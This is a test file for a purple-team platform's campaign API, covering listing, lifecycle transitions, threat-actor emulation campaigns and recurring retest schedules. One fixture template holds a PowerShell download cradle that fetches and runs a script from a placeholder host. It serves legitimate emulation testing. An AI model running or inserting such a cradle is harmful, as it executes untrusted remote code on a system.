import { randomUUID } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { beforeAll, describe, expect, it } from 'vitest';
import { Roles } from '../../auth/roles.ts';
import { SYSTEM_ACTOR } from '../../db/unit-of-work.ts';
import type { EventOf } from '../../events/types.ts';
import type { TestState } from '../../generated/prisma/enums.ts';
import { importAttackEnterprise } from '../catalog/importer.ts';
import { campaignsJobs } from './jobs.ts';
import type { OccurrenceJobData } from './occurrences.ts';
import { startTestApp, useTestApp } from '../../../test/helpers/app.ts';
import { countQueries } from '../../../test/helpers/queries.ts';
import { referenceData } from '../../../test/helpers/reference-data.ts';
import { activeUserIds, team, type Team } from '../../../test/helpers/test-runs.ts';
import { eventsSettled } from '../../../test/helpers/events.ts';

let t: Team;
const techniques: Record<string, string> = {};

async function technique(ttpId: string, name: string, extra: { revoked?: boolean; deprecated?: boolean } = {}) {
  const row = await app.services.prisma.technique.create({
    data: { ttpId, name, tactic: 'Execution', stixId: `attack-pattern--${randomUUID()}`, ...extra },
  });
  techniques[ttpId] = row.id;
  return row.id;
}

interface SeedTest {
  campaignId?: string | null;
  state?: TestState;
  executionDate?: Date | null;
  ttpId?: string;
  name?: string;
  createdAt?: Date;
  retestOfId?: string;
  lineageId?: string;
}

/** A test row in a known state, written directly. */
async function seedTest(seed: SeedTest = {}) {
  const id = randomUUID();
  return app.services.prisma.test.create({
    data: {
      id,
      lineageId: seed.lineageId ?? id,
      retestOfId: seed.retestOfId ?? null,
      techniqueId: techniques[seed.ttpId ?? 'T1059'],
      name: seed.name ?? `Test ${id.slice(0, 6)}`,
      createdById: t.red_lead.id,
      campaignId: seed.campaignId ?? null,
      state: seed.state ?? 'draft',
      executionDate: seed.executionDate ?? (seed.state && seed.state !== 'draft' ? new Date('2026-01-10T10:00:00Z') : null),
      ...(seed.createdAt ? { createdAt: seed.createdAt } : {}),
    },
  });
}

async function createCampaign(token: string, body: Record<string, unknown>) {
  const response = await app.api('POST', '/campaigns', { token, body });
  expect(response.status, JSON.stringify(response.body)).toBe(201);
  return response.body as Record<string, any>;
}

const history = async (id: string) => (await app.api('GET', `/campaigns/${id}/history`, { token: t.viewer.token })).body;
const kinds = async (id: string) => (await history(id)).events.map((event: any) => event.kind);

const app = useTestApp();

beforeAll(async () => {
  t = await team(app);
  await technique('T1059', 'Command and Scripting Interpreter');
  await technique('T1003', 'OS Credential Dumping');
  await technique('T1566', 'Phishing');
  await technique('T1027', 'Obfuscated Files or Information');
  await technique('T1099', 'Timestomp', { revoked: true });
});

describe('creating and listing campaigns', () => {
  it('a red lead creates a draft campaign; it is audited and its history starts with "created"', async () => {
    const created = await createCampaign(t.red_lead.token, {
      name: 'Q1 purple exercise',
      description: 'Initial access and execution',
      type: 'Purple',
      start_date: '2026-01-05T00:00:00Z',
      end_date: '2026-03-31T00:00:00Z',
    });
    expect(created).toMatchObject({
      name: 'Q1 purple exercise',
      description: 'Initial access and execution',
      type: 'purple',
      status: 'draft',
      valid_transitions: ['active'],
      start_date: '2026-01-05T00:00:00.000Z',
      end_date: '2026-03-31T00:00:00.000Z',
      recurrence: null,
      next_occurrence: null,
      created_by: t.red_lead.id,
      test_count: 0,
      validated_count: 0,
      tests: [],
      progress: {
        validated: 0,
        total: 0,
        percentage: 0,
        by_state: { draft: 0, red_executing: 0, blue_evaluating: 0, in_review: 0, rejected: 0, validated: 0 },
      },
    });
    const audit = await app.services.prisma.auditLog.findFirst({ where: { action: 'create_campaign', entityId: created.id } });
    expect(audit).toMatchObject({ userId: t.red_lead.id, entityType: 'campaign', details: { name: 'Q1 purple exercise', type: 'purple' } });
    const { events, executions } = await history(created.id);
    expect(events).toEqual([
      expect.objectContaining({
        kind: 'created',
        from_state: null,
        to_state: 'draft',
        actor_id: t.red_lead.id,
        actor_name: t.red_lead.username,
      }),
    ]);
    expect(executions).toEqual([]);
  });

  it('bad input answers 400 naming the field; technicians and viewers may not create', async () => {
    const post = (body: unknown, token = t.blue_lead.token) => app.api('POST', '/campaigns', { token, body });
    expect(await post({})).toMatchObject({ status: 400, body: { code: 'VALIDATION_ERROR', field: 'name' } });
    expect(await post({ name: '  ' })).toMatchObject({ status: 400, body: { field: 'name' } });
    expect(await post({ name: 'x', type: 'two words' })).toMatchObject({ status: 400, body: { field: 'type' } });
    expect(await post({ name: 'x', start_date: '2026-02-01T00:00:00Z', end_date: '2026-01-01T00:00:00Z' })).toMatchObject({
      status: 400,
      body: { field: 'end_date', detail: 'end_date: must not be before start_date' },
    });
    expect(await post({ name: 'x', recurrence: 'every day' })).toMatchObject({ status: 400, body: { field: 'recurrence' } });
    expect(await post({ name: 'x', recurrence: '*/5 * * * *' })).toMatchObject({
      status: 400,
      body: { field: 'recurrence', detail: 'recurrence: must not recur more often than once an hour' },
    });
    expect(await post({ name: 'x', threat_actor_id: randomUUID() })).toMatchObject({ status: 400, body: { field: 'threat_actor_id' } });
    expect((await post({ name: 'x' }, t.red_tech.token)).status).toBe(403);
    expect((await post({ name: 'x' }, t.viewer.token)).status).toBe(403);
  });

  it('the list shows test_count and validated_count, filters by status, type, search and date range, and pages', async () => {
    const alpha = await createCampaign(t.admin.token, {
      name: 'Listing alpha',
      type: 'regression',
      start_date: '2025-01-01T00:00:00Z',
      end_date: '2025-02-01T00:00:00Z',
    });
    const beta = await createCampaign(t.admin.token, { name: 'Listing beta', description: 'Ransomware 100% emulation', type: 'red' });
    // alpha: validated, validated, rejected, draft → 4 tests, 2 validated; beta: one red_executing → 1 test, 0 validated.
    for (const state of ['validated', 'validated', 'rejected', 'draft'] as const) await seedTest({ campaignId: alpha.id, state });
    await seedTest({ campaignId: beta.id, state: 'red_executing' });
    await app.services.prisma.campaign.update({ where: { id: beta.id }, data: { status: 'active' } });

    const list = await app.api('GET', '/campaigns?search=listing', { token: t.viewer.token });
    expect(list.body).toMatchObject({ total: 2, offset: 0, limit: 50 });
    expect(list.body.items.map((item: any) => [item.name, item.test_count, item.validated_count])).toEqual([
      ['Listing beta', 1, 0],
      ['Listing alpha', 4, 2],
    ]);
    const names = async (query: string) =>
      (await app.api('GET', `/campaigns?${query}`, { token: t.viewer.token })).body.items.map((item: any) => item.name);
    expect(await names('search=listing&status=active')).toEqual(['Listing beta']);
    expect(await names('search=listing&type=REGRESSION')).toEqual(['Listing alpha']);
    expect(await names('search=100%25')).toEqual(['Listing beta']);
    expect(await names('search=_')).toEqual([]);
    // alpha ran in January 2025; beta has no dates and runs from its creation (now) on.
    expect(await names('search=listing&date_from=2025-01-15T00:00:00Z&date_to=2025-03-01T00:00:00Z')).toEqual(['Listing alpha']);
    expect(await names('search=listing&date_from=2025-03-01T00:00:00Z')).toEqual(['Listing beta']);
    expect(await names('search=listing&date_to=2024-12-31T00:00:00Z')).toEqual([]);
    expect(await names('search=listing&limit=1&offset=1')).toEqual(['Listing alpha']);
    expect(await app.api('GET', '/campaigns?status=paused', { token: t.viewer.token })).toMatchObject({
      status: 400,
      body: { field: 'status' },
    });
    expect(
      await app.api('GET', '/campaigns?date_from=2025-02-01T00:00:00Z&date_to=2025-01-01T00:00:00Z', { token: t.viewer.token }),
    ).toMatchObject({
      status: 400,
      body: { field: 'date_to' },
    });
    expect(await app.api('GET', '/campaigns?limit=201', { token: t.viewer.token })).toMatchObject({
      status: 400,
      body: { field: 'limit' },
    });
  });

  it('the list costs the same number of queries for one campaign as for ten (counts come from one grouped query)', async () => {
    for (let i = 0; i < 9; i++) {
      const campaign = await createCampaign(t.admin.token, { name: `Bulk ${i}` });
      await seedTest({ campaignId: campaign.id, state: 'validated' });
    }
    const one = await countQueries(() => app.api('GET', '/campaigns?limit=1', { token: t.viewer.token }));
    const ten = await countQueries(() => app.api('GET', '/campaigns?limit=10', { token: t.viewer.token }));
    expect(ten).toBe(one);
  });
});

describe('the tests of a campaign', () => {
  it('adds an existing test (409 if it is in another campaign), shows it in the detail and removes it again', async () => {
    const campaign = await createCampaign(t.red_lead.token, { name: 'Membership' });
    const other = await createCampaign(t.red_lead.token, { name: 'Other' });
    const free = await seedTest({ name: 'Dump LSASS', ttpId: 'T1003', state: 'validated' });
    await app.services.prisma.test.update({ where: { id: free.id }, data: { detectionResult: 'detected' } });
    const taken = await seedTest({ campaignId: other.id });

    const added = await app.api('POST', `/campaigns/${campaign.id}/tests`, { token: t.blue_lead.token, body: { test_id: free.id } });
    expect(added.status).toBe(200);
    expect(added.body.tests).toEqual([
      expect.objectContaining({
        id: free.id,
        name: 'Dump LSASS',
        state: 'validated',
        technique: { id: techniques.T1003, ttp_id: 'T1003', name: 'OS Credential Dumping' },
        detection_result: 'detected',
      }),
    ]);
    expect(added.body).toMatchObject({ test_count: 1, validated_count: 1, progress: { validated: 1, total: 1, percentage: 100 } });
    expect((await app.services.prisma.test.findUniqueOrThrow({ where: { id: free.id } })).campaignId).toBe(campaign.id);
    // Adding it again changes nothing.
    const again = await app.api('POST', `/campaigns/${campaign.id}/tests`, { token: t.blue_lead.token, body: { test_id: free.id } });
    expect(again).toMatchObject({ status: 200, body: { test_count: 1, version: added.body.version } });

    expect(await app.api('POST', `/campaigns/${campaign.id}/tests`, { token: t.admin.token, body: { test_id: taken.id } })).toMatchObject({
      status: 409,
      body: { code: 'TEST_IN_OTHER_CAMPAIGN', test_id: taken.id, campaign_id: other.id },
    });
    expect(
      await app.api('POST', `/campaigns/${campaign.id}/tests`, { token: t.admin.token, body: { test_id: randomUUID() } }),
    ).toMatchObject({
      status: 400,
      body: { code: 'VALIDATION_ERROR', field: 'test_id' },
    });
    expect(await app.api('POST', `/campaigns/${campaign.id}/tests`, { token: t.admin.token, body: {} })).toMatchObject({
      status: 400,
      body: { field: 'test_id' },
    });
    expect((await app.api('POST', `/campaigns/${campaign.id}/tests`, { token: t.red_tech.token, body: { test_id: free.id } })).status).toBe(
      403,
    );

    const detail = await app.api('GET', `/campaigns/${campaign.id}`, { token: t.viewer.token });
    expect(detail.body.tests.map((test: any) => test.id)).toEqual([free.id]);

    expect(await app.api('DELETE', `/campaigns/${campaign.id}/tests/${taken.id}`, { token: t.admin.token })).toMatchObject({
      status: 404,
      body: { code: 'NOT_FOUND' },
    });
    const removed = await app.api('DELETE', `/campaigns/${campaign.id}/tests/${free.id}`, { token: t.red_lead.token });
    expect(removed).toMatchObject({ status: 200, body: { tests: [], test_count: 0 } });
    expect(await app.services.prisma.test.findUniqueOrThrow({ where: { id: free.id } })).toMatchObject({
      campaignId: null,
      state: 'validated',
    });
    const { events } = await history(campaign.id);
    expect(events.map((event: any) => [event.kind, event.details.test_id ?? null, event.actor_name])).toEqual([
      ['created', null, t.red_lead.username],
      ['test_added', free.id, t.blue_lead.username],
      ['test_removed', free.id, t.red_lead.username],
    ]);
    expect(
      await app.services.prisma.auditLog.count({
        where: { entityId: campaign.id, action: { in: ['add_campaign_test', 'remove_campaign_test'] } },
      }),
    ).toBe(2);
  });

  it('a test created with an unknown campaign_id answers 400 naming the field; a known one joins the campaign', async () => {
    const unknown = await app.api('POST', '/tests', {
      token: t.red_lead.token,
      body: { technique_id: techniques.T1059, name: 'x', campaign_id: randomUUID() },
    });
    expect(unknown).toMatchObject({ status: 400, body: { code: 'VALIDATION_ERROR', field: 'campaign_id' } });
    const campaign = await createCampaign(t.red_lead.token, { name: 'Joined at creation' });
    const created = await app.api('POST', '/tests', {
      token: t.red_lead.token,
      body: { technique_id: techniques.T1059, name: 'x', campaign_id: campaign.id },
    });
    expect(created).toMatchObject({ status: 201, body: { campaign_id: campaign.id } });
    expect((await app.api('GET', `/campaigns/${campaign.id}/progress`, { token: t.viewer.token })).body).toMatchObject({ total: 1 });
  });

  it('progress counts validated out of all tests, with the count in each state', async () => {
    const campaign = await createCampaign(t.admin.token, { name: 'Progress' });
    const states: TestState[] = ['validated', 'rejected', 'draft', 'in_review', 'red_executing', 'validated'];
    for (const state of states) await seedTest({ campaignId: campaign.id, state });
    const progress = await app.api('GET', `/campaigns/${campaign.id}/progress`, { token: t.viewer.token });
    // 2 validated of 6 tests: 2 / 6 × 100 = 33.333… → 33.33
    expect(progress).toMatchObject({
      status: 200,
      body: {
        validated: 2,
        total: 6,
        percentage: 33.33,
        by_state: { draft: 1, red_executing: 1, blue_evaluating: 0, in_review: 1, rejected: 1, validated: 2 },
      },
    });
    expect(await app.api('GET', `/campaigns/${randomUUID()}/progress`, { token: t.viewer.token })).toMatchObject({ status: 404 });
    expect(await app.api('GET', '/campaigns/not-a-uuid', { token: t.viewer.token })).toMatchObject({
      status: 400,
      body: { code: 'VALIDATION_ERROR', field: 'id' },
    });
  });
});

describe('campaign lifecycle', () => {
  it('draft → active → completed: refused while no test has started, then completes, publishes campaign.completed and notifies the creator and the leads', async () => {
    const campaign = await createCampaign(t.red_lead.token, { name: 'Lifecycle' });
    const first = await seedTest({ campaignId: campaign.id, name: 'First' });
    await seedTest({ campaignId: campaign.id, name: 'Second' });

    const early = await app.api('POST', `/campaigns/${campaign.id}/complete`, { token: t.red_lead.token });
    expect(early).toEqual({
      status: 400,
      headers: expect.anything(),
      body: {
        code: 'INVALID_TRANSITION',
        detail: {
          message: 'Invalid transition: complete cannot move a campaign from draft to completed. Valid transitions from draft: active',
          code: 'INVALID_TRANSITION',
          current_state: 'draft',
          target_state: 'completed',
          valid_transitions: ['active'],
        },
      },
    });

    expect((await app.api('POST', `/campaigns/${campaign.id}/activate`, { token: t.red_tech.token })).status).toBe(403);
    const activated = await app.api('POST', `/campaigns/${campaign.id}/activate`, { token: t.blue_lead.token });
    expect(activated).toMatchObject({ status: 200, body: { status: 'active', valid_transitions: ['completed'] } });
    expect(activated.body.activated_at).toEqual(expect.any(String));
    expect(await app.api('POST', `/campaigns/${campaign.id}/activate`, { token: t.blue_lead.token })).toMatchObject({
      status: 400,
      body: { code: 'INVALID_TRANSITION', detail: { current_state: 'active', target_state: 'active', valid_transitions: ['completed'] } },
    });

    // Only red leads and admins complete; and only once a test's execution has started.
    expect((await app.api('POST', `/campaigns/${campaign.id}/complete`, { token: t.blue_lead.token })).status).toBe(403);
    expect(await app.api('POST', `/campaigns/${campaign.id}/complete`, { token: t.red_lead.token })).toMatchObject({
      status: 400,
      body: { code: 'NO_EXECUTED_TESTS' },
    });
    const started = await app.api('POST', `/tests/${first.id}/start-execution`, { token: t.red_tech.token });
    expect(started).toMatchObject({ status: 200, body: { state: 'red_executing' } });

    const published: EventOf<'campaign.completed'>[] = [];
    const stop = app.services.bus.on('campaign.completed', (event) => void published.push(event));
    const completed = await app.api('POST', `/campaigns/${campaign.id}/complete`, { token: t.admin.token });
    stop();
    expect(completed).toMatchObject({ status: 200, body: { status: 'completed', valid_transitions: [] } });
    expect(completed.body.completed_at).toEqual(expect.any(String));
    expect(published.map((event) => event.payload)).toEqual([
      { campaignId: campaign.id, name: 'Lifecycle', testCount: 2, validatedCount: 0, percentage: 0 },
    ]);
    await eventsSettled(app);
    const recipients = (await app.services.prisma.notification.findMany({ where: { entityId: campaign.id, event: 'campaign_completed' } }))
      .map((row) => row.userId)
      .sort();
    expect(recipients).toEqual([...new Set([t.red_lead.id, ...(await activeUserIds(app, [...Roles.leads]))])].sort());

    expect(await app.api('POST', `/campaigns/${campaign.id}/complete`, { token: t.admin.token })).toMatchObject({
      status: 400,
      body: { code: 'INVALID_TRANSITION', detail: { current_state: 'completed', valid_transitions: [] } },
    });
    // A completed campaign's tests and schedule no longer change; its description still may.
    expect(await app.api('DELETE', `/campaigns/${campaign.id}/tests/${first.id}`, { token: t.admin.token })).toMatchObject({
      status: 400,
      body: { code: 'EDIT_NOT_ALLOWED', current_state: 'completed' },
    });
    expect(
      await app.api('PATCH', `/campaigns/${campaign.id}/schedule`, { token: t.admin.token, body: { recurrence: '0 0 1 1 *' } }),
    ).toMatchObject({
      status: 400,
      body: { code: 'EDIT_NOT_ALLOWED' },
    });
    expect(await app.api('PATCH', `/campaigns/${campaign.id}`, { token: t.blue_lead.token, body: { description: 'Done' } })).toMatchObject({
      status: 200,
      body: { description: 'Done', status: 'completed' },
    });

    const { events } = await history(campaign.id);
    expect(events.map((event: any) => [event.kind, event.from_state, event.to_state])).toEqual([
      ['created', null, 'draft'],
      ['state_changed', 'draft', 'active'],
      ['state_changed', 'active', 'completed'],
      ['updated', null, null],
    ]);
    const audits = await app.services.prisma.auditLog.findMany({
      where: { entityId: campaign.id },
      orderBy: { timestamp: 'asc' },
      select: { action: true },
    });
    expect(audits.map((audit) => audit.action)).toEqual(['create_campaign', 'activate_campaign', 'complete_campaign', 'update_campaign']);
  });

  it('two simultaneous activations: the row lock lets one through, the other sees it active', async () => {
    const campaign = await createCampaign(t.admin.token, { name: 'Race' });
    const answers = await Promise.all(
      [t.red_lead, t.blue_lead, t.admin].map((who) => app.api('POST', `/campaigns/${campaign.id}/activate`, { token: who.token })),
    );
    expect(answers.map((answer) => answer.status).sort()).toEqual([200, 400, 400]);
    expect(await kinds(campaign.id)).toEqual(['created', 'state_changed']);
  });

  it('PATCH changes metadata and records only real changes', async () => {
    const campaign = await createCampaign(t.red_lead.token, { name: 'Metadata' });
    const patched = await app.api('PATCH', `/campaigns/${campaign.id}`, {
      token: t.blue_lead.token,
      body: { name: 'Metadata v2', type: 'blue', description: '' },
    });
    expect(patched).toMatchObject({ status: 200, body: { name: 'Metadata v2', type: 'blue', version: 1 } });
    const { events } = await history(campaign.id);
    expect(events[1]).toMatchObject({
      kind: 'updated',
      details: { fields: ['name', 'type'], changes: { name: 'Metadata v2', type: 'blue' } },
    });
    expect(await app.api('PATCH', `/campaigns/${campaign.id}`, { token: t.blue_lead.token, body: { name: '' } })).toMatchObject({
      status: 400,
      body: { field: 'name' },
    });
    expect(await app.api('PATCH', `/campaigns/${campaign.id}`, { token: t.blue_lead.token, body: { colour: 'red' } })).toMatchObject({
      status: 400,
      body: { field: 'colour' },
    });
    expect((await app.api('PATCH', `/campaigns/${campaign.id}`, { token: t.blue_tech.token, body: { name: 'x' } })).status).toBe(403);
  });

  it('DELETE: only the creator or an admin; the tests stay, with no campaign', async () => {
    const campaign = await createCampaign(t.red_lead.token, { name: 'To delete' });
    const kept = await seedTest({ campaignId: campaign.id, state: 'validated' });
    expect(await app.api('DELETE', `/campaigns/${campaign.id}`, { token: t.blue_lead.token })).toMatchObject({
      status: 403,
      body: { code: 'FORBIDDEN' },
    });
    expect((await app.api('DELETE', `/campaigns/${campaign.id}`, { token: t.red_lead.token })).status).toBe(204);
    expect(await app.services.prisma.campaign.findUnique({ where: { id: campaign.id } })).toBeNull();
    expect(await app.services.prisma.test.findUniqueOrThrow({ where: { id: kept.id } })).toMatchObject({
      campaignId: null,
      state: 'validated',
    });
    const audit = await app.services.prisma.auditLog.findFirst({ where: { action: 'delete_campaign', entityId: campaign.id } });
    expect(audit).toMatchObject({ userId: t.red_lead.id, details: { name: 'To delete', released_test_ids: [kept.id] } });
    expect(await app.api('DELETE', `/campaigns/${campaign.id}`, { token: t.admin.token })).toMatchObject({ status: 404 });

    const byOther = await createCampaign(t.blue_lead.token, { name: 'Admin deletes' });
    expect((await app.api('DELETE', `/campaigns/${byOther.id}`, { token: t.admin.token })).status).toBe(204);
  });
});

describe('POST /campaigns/from-threat-actor/{actor_id}', () => {
  let actorId: string;

  beforeAll(async () => {
    const actor = await app.services.prisma.threatActor.create({
      data: { stixId: `intrusion-set--${randomUUID()}`, externalId: 'G9001', name: 'Test Bear', aliases: ['Test Bear'] },
    });
    actorId = actor.id;
    const use = (ttpId: string, procedure: string) => ({
      stixId: `relationship--${randomUUID()}`,
      actorId,
      techniqueId: techniques[ttpId],
      procedure,
    });
    // T1059 twice (two reported uses), T1566, T1003, and the revoked T1099: three distinct active techniques.
    await app.services.prisma.threatActorTechnique.createMany({
      data: [
        use('T1059', 'Ran PowerShell downloaders.'),
        use('T1059', 'Used cmd.exe for discovery.'),
        use('T1566', 'Sent spearphishing e-mails.'),
        use('T1003', 'Dumped LSASS memory.'),
        use('T1099', 'Changed timestamps.'),
      ],
    });
    // T1059 has two active templates (the older one is first) and T1566 only an inactive one: T1566 and T1003 get generic tests.
    await app.services.prisma.testTemplate.create({
      data: {
        name: 'PowerShell download cradle',
        description: 'Downloads and runs a script in memory.',
        ttpTechniqueId: 'T1059',
        platforms: ['windows'],
        executor: 'powershell',
        procedure: 'IEX (New-Object Net.WebClient).DownloadString("#{url}")',
        cleanupCommand: 'Remove-Item #{path}',
        inputArguments: { url: { default: 'https://example.test/a.ps1' }, path: { default: 'C:\\a.ps1' } },
        suggestedRemediation: 'Enable script block logging.',
        createdAt: new Date('2025-01-01T00:00:00Z'),
      },
    });
    await app.services.prisma.testTemplate.create({
      data: { name: 'Newer PowerShell template', ttpTechniqueId: 'T1059', createdAt: new Date('2025-06-01T00:00:00Z') },
    });
    await app.services.prisma.testTemplate.create({
      data: { name: 'Inactive phishing template', ttpTechniqueId: 'T1566', isActive: false },
    });
  });

  it('creates a threat_actor campaign with one draft test per distinct active technique, pre-filled from the first active template', async () => {
    const created = await app.api('POST', `/campaigns/from-threat-actor/${actorId}`, { token: t.blue_lead.token });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    expect(created.body).toMatchObject({
      name: 'Test Bear (G9001) emulation',
      type: 'threat_actor',
      status: 'draft',
      threat_actor_id: actorId,
      threat_actor: { id: actorId, external_id: 'G9001', name: 'Test Bear' },
      test_count: 3,
      created_by: t.blue_lead.id,
    });
    const tests = await app.services.prisma.test.findMany({ where: { campaignId: created.body.id }, include: { technique: true } });
    const byTtp = Object.fromEntries(tests.map((test) => [test.technique.ttpId, test]));
    expect(Object.keys(byTtp).sort()).toEqual(['T1003', 'T1059', 'T1566']);
    const template = await app.services.prisma.testTemplate.findFirstOrThrow({ where: { name: 'PowerShell download cradle' } });
    expect(byTtp.T1059).toMatchObject({
      name: 'PowerShell download cradle',
      description: 'Downloads and runs a script in memory.',
      platform: 'windows',
      procedureText: 'IEX (New-Object Net.WebClient).DownloadString("https://example.test/a.ps1")\n\nCleanup:\nRemove-Item C:\\a.ps1',
      toolUsed: 'powershell',
      remediationSteps: 'Enable script block logging.',
      templateId: template.id,
      state: 'draft',
      createdById: t.blue_lead.id,
    });
    expect(byTtp.T1566).toMatchObject({
      name: 'T1566 Phishing',
      description: "Emulate Test Bear's use of Phishing (T1566).\n\nProcedures reported for Test Bear:\nSent spearphishing e-mails.",
      templateId: null,
      procedureText: null,
    });
    expect(byTtp.T1003.name).toBe('T1003 OS Credential Dumping');
    for (const test of tests) expect(test.lineageId).toBe(test.id);
    // Each test has its timeline start and its audit entry, like any created test.
    const ids = tests.map((test) => test.id);
    expect(await app.services.prisma.testEvent.count({ where: { testId: { in: ids }, kind: 'created', toState: 'draft' } })).toBe(3);
    expect(
      await app.services.prisma.auditLog.count({ where: { entityId: { in: ids }, action: 'create_test', userId: t.blue_lead.id } }),
    ).toBe(3);
    const timeline = await app.api('GET', `/tests/${byTtp.T1059.id}/timeline`, { token: t.viewer.token });
    expect(timeline.body).toEqual([
      expect.objectContaining({ kind: 'created', to_state: 'draft', details: expect.objectContaining({ campaign_id: created.body.id }) }),
    ]);
    expect(await kinds(created.body.id)).toEqual(['created']);
  });

  it('takes an optional name and the group id instead of the uuid; an unknown actor answers 404 and a viewer 403', async () => {
    const named = await app.api('POST', `/campaigns/from-threat-actor/${actorId}`, { token: t.admin.token, body: { name: 'Bear hunt' } });
    expect(named).toMatchObject({ status: 201, body: { name: 'Bear hunt', test_count: 3 } });
    expect(await app.api('POST', '/campaigns/from-threat-actor/G9001', { token: t.red_lead.token })).toMatchObject({
      status: 201,
      body: { threat_actor_id: actorId },
    });
    expect(await app.api('POST', `/campaigns/from-threat-actor/${randomUUID()}`, { token: t.admin.token })).toMatchObject({
      status: 404,
      body: { code: 'NOT_FOUND' },
    });
    expect(await app.api('POST', '/campaigns/from-threat-actor/nonsense', { token: t.admin.token })).toMatchObject({
      status: 404,
      body: { code: 'NOT_FOUND' },
    });
    expect((await app.api('POST', `/campaigns/from-threat-actor/${actorId}`, { token: t.viewer.token })).status).toBe(403);
  });
});

describe('recurring schedule', () => {
  const occurrenceJob = campaignsJobs.find((job) => job.name === 'run-campaign-occurrence')!;
  const run = (data: OccurrenceJobData) => occurrenceJob.run(data as unknown as Record<string, unknown>, app.services) as Promise<any>;
  const schedulerJob = async (id: string) =>
    (await app.api('GET', '/system/scheduler-status', { token: t.admin.token })).body.jobs.find((job: any) => job.id === `campaign:${id}`);

  let campaign: Record<string, any>;
  const seeded: Record<string, string> = {};

  it('PATCH /schedule validates and stores the period and the recurrence; the scheduler holds it once the campaign is active', async () => {
    campaign = await createCampaign(t.red_lead.token, { name: 'Yearly regression', type: 'regression' });
    const patch = (body: unknown, token = t.blue_lead.token) => app.api('PATCH', `/campaigns/${campaign.id}/schedule`, { token, body });
    expect(await patch({ recurrence: 'soon' })).toMatchObject({ status: 400, body: { field: 'recurrence' } });
    expect(await patch({ recurrence: '* * * * *' })).toMatchObject({ status: 400, body: { field: 'recurrence' } });
    expect(await patch({ start_date: '2030-01-01T00:00:00Z', end_date: '2029-01-01T00:00:00Z' })).toMatchObject({
      status: 400,
      body: { field: 'end_date' },
    });
    expect((await patch({ recurrence: '0 0 1 1 *' }, t.red_tech.token)).status).toBe(403);
    // Nothing to change: nothing recorded.
    expect(await patch({})).toMatchObject({ status: 200, body: { version: 0, recurrence: null } });

    const scheduled = await patch({ start_date: '2025-06-01T00:00:00Z', end_date: '2030-06-01T00:00:00Z', recurrence: '0 0 1 1 *' });
    const nextNewYear = `${new Date().getUTCFullYear() + 1}-01-01T00:00:00.000Z`;
    expect(scheduled).toMatchObject({
      status: 200,
      body: {
        start_date: '2025-06-01T00:00:00.000Z',
        end_date: '2030-06-01T00:00:00.000Z',
        recurrence: '0 0 1 1 *',
        next_occurrence: nextNewYear,
        status: 'draft',
      },
    });
    // A draft has no scheduler entry yet: activation registers it.
    expect(await schedulerJob(campaign.id)).toBeUndefined();
    await app.api('POST', `/campaigns/${campaign.id}/activate`, { token: t.red_lead.token });
    expect(await schedulerJob(campaign.id)).toEqual({
      id: `campaign:${campaign.id}`,
      name: 'Run campaign "Yearly regression"',
      next_run_time: nextNewYear,
    });
    // What a restarting process registers again.
    const atStart = await occurrenceJob.schedules!(app.services);
    expect(atStart.find((schedule) => schedule.id === `campaign:${campaign.id}`)).toEqual({
      id: `campaign:${campaign.id}`,
      repeat: { pattern: '0 0 1 1 *', tz: 'UTC' },
      data: { campaignId: campaign.id, name: 'Yearly regression' },
    });
    // Renaming keeps the scheduler entry's name current.
    await app.api('PATCH', `/campaigns/${campaign.id}`, { token: t.red_lead.token, body: { name: 'Yearly purple regression' } });
    expect((await schedulerJob(campaign.id)).name).toBe('Run campaign "Yearly purple regression"');
  });

  it('each occurrence creates retests of the latest decided test of each lineage, once per occurrence', async () => {
    // Lineages: A validated, B rejected, C still draft, D validated but already re-run (its retest is a draft).
    seeded.A = (await seedTest({ campaignId: campaign.id, state: 'validated', name: 'A', createdAt: new Date('2025-07-01T00:00:00Z') })).id;
    seeded.B = (await seedTest({ campaignId: campaign.id, state: 'rejected', name: 'B', createdAt: new Date('2025-07-02T00:00:00Z') })).id;
    seeded.C = (await seedTest({ campaignId: campaign.id, state: 'draft', name: 'C', createdAt: new Date('2025-07-03T00:00:00Z') })).id;
    seeded.D = (await seedTest({ campaignId: campaign.id, state: 'validated', name: 'D', createdAt: new Date('2025-07-04T00:00:00Z') })).id;
    seeded.D2 = (
      await seedTest({
        campaignId: campaign.id,
        name: 'D',
        retestOfId: seeded.D,
        lineageId: seeded.D,
        createdAt: new Date('2025-07-05T00:00:00Z'),
      })
    ).id;

    const first = await run({ campaignId: campaign.id, occurrence: '2026-01-01T00:00:00.000Z' });
    expect(first).toMatchObject({ occurrence: '2026-01-01T00:00:00.000Z', testIds: [expect.any(String), expect.any(String)] });
    const retests = await app.services.prisma.test.findMany({ where: { id: { in: first.testIds } }, orderBy: { name: 'asc' } });
    expect(retests.map((test) => [test.name, test.state, test.retestOfId, test.lineageId, test.campaignId, test.createdById])).toEqual([
      ['A', 'draft', seeded.A, seeded.A, campaign.id, t.red_lead.id],
      ['B', 'draft', seeded.B, seeded.B, campaign.id, t.red_lead.id],
    ]);
    // The same occurrence again (a retried or duplicated job) changes nothing.
    expect(await run({ campaignId: campaign.id, occurrence: '2026-01-01T00:00:00.000Z' })).toEqual({
      skipped: 'already run',
      occurrence: '2026-01-01T00:00:00.000Z',
    });
    expect(await app.services.prisma.test.count({ where: { campaignId: campaign.id } })).toBe(7);

    // Next occurrence: every lineage's latest run is still a draft, so nothing new, but the execution is recorded.
    const second = await run({ campaignId: campaign.id, occurrence: '2027-01-01T00:00:00.000Z' });
    expect(second).toMatchObject({ testIds: [] });
    // Once A's retest is validated, the occurrence after re-runs it (not the original A).
    const retestOfA = retests[0].id;
    await app.services.prisma.test.update({ where: { id: retestOfA }, data: { state: 'validated' } });
    const third = await run({ campaignId: campaign.id, occurrence: '2028-01-01T00:00:00.000Z' });
    expect(third.testIds).toHaveLength(1);
    expect(await app.services.prisma.test.findUniqueOrThrow({ where: { id: third.testIds[0] } })).toMatchObject({
      retestOfId: retestOfA,
      lineageId: seeded.A,
      name: 'A',
    });
    // The retested test's timeline says so.
    expect((await app.services.prisma.testEvent.findFirst({ where: { testId: retestOfA, kind: 'retest_created' } }))?.details).toEqual({
      retest_id: third.testIds[0],
    });
  });

  it('occurrences outside [start_date, end_date] or of a campaign that is not active are skipped', async () => {
    expect(await run({ campaignId: campaign.id, occurrence: '2025-01-01T00:00:00.000Z' })).toEqual({
      skipped: 'before start_date',
      occurrence: '2025-01-01T00:00:00.000Z',
    });
    expect(await run({ campaignId: randomUUID() })).toEqual({ skipped: 'unknown campaign' });
